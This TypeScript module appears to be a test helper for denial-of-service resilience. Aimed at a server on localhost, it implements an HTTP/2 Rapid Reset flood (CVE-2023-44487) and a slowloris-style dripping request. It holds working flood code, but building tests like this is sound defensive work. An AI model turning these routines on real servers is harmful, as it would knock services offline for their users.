import { connect, type TLSSocket } from 'node:tls';

const FRAME_HEAD = 9;
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const GOAWAY = 7;
const END_OF_HEADERS_AND_STREAM = 0x05;
const CANCEL = 8;
/** GET https://localhost/, of the static table except for the host. */
const REQUEST = Buffer.from([0x82, 0x87, 0x84, 0x41, 9, ...Buffer.from('localhost')]);
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const AT_ONCE = 100;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(FRAME_HEAD);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const cancel = Buffer.alloc(4);
cancel.writeUInt32BE(CANCEL);

const openTls = (port: number, alpn: string, isOpen: (socket: TLSSocket) => void): TLSSocket => {
  const socket = connect(
    {
      ...{ port, host: '127.0.0.1', servername: 'localhost' },
      ...{ rejectUnauthorized: false, ALPNProtocols: [alpn] },
    },
    () => isOpen(socket),
  );
  return socket;
};

/** One connection: as many as it takes. */
async function resetUntil(port: number, end: number): Promise<number> {
  let streams = 0;
  await new Promise<void>((done) => {
    const socket = openTls(port, 'h2', () => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
      const round = () => {
        if (socket.destroyed) return;
        if (performance.now() > end) return void socket.destroy();
        const frames: Buffer[] = [];
        for (let place = 0; place < AT_ONCE; place++) {
          const id = 2 * streams++ + 1;
          frames.push(frame(HEADERS, END_OF_HEADERS_AND_STREAM, id, REQUEST));
          frames.push(frame(RST_STREAM, 0, id, cancel));
        }
        socket.write(Buffer.concat(frames), () => setImmediate(round));
      };
      round();
    });
    const limit = setTimeout(() => socket.destroy(), Math.max(0, end - performance.now()) + 100);
    socket.on('data', (bytes) => {
      if (bytes.at(3) === GOAWAY) socket.destroy();
    });
    socket.on('error', () => {});
    socket.once('close', () => {
      clearTimeout(limit);
      done();
    });
  });
  return streams;
}

/** Streams that are opened and cancelled at once, on one connection at a time, as in CVE-2023-44487. */
export async function resetRapidly(port: number, milliseconds: number): Promise<number> {
  const end = performance.now() + milliseconds;
  let streams = 0;
  while (performance.now() < end) streams += await resetUntil(port, end);
  return streams;
}

/** Seconds until a request that never ends is cut off, or null if it is not within the limit. */
export async function secondsUntilCut(
  port: number,
  start: string,
  drip: string,
  limitMs: number,
): Promise<number | null> {
  const begun = performance.now();
  return await new Promise((done) => {
    const socket = openTls(port, 'http/1.1', () => socket.write(start));
    const timer = setInterval(() => drip && socket.write(drip), 1000);
    const end = (result: number | null) => {
      clearInterval(timer);
      clearTimeout(limit);
      socket.destroy();
      done(result);
    };
    const limit = setTimeout(() => end(null), limitMs);
    const cut = () => end((performance.now() - begun) / 1000);
    socket.on('error', cut);
    socket.once('end', cut);
    socket.resume();
  });
}
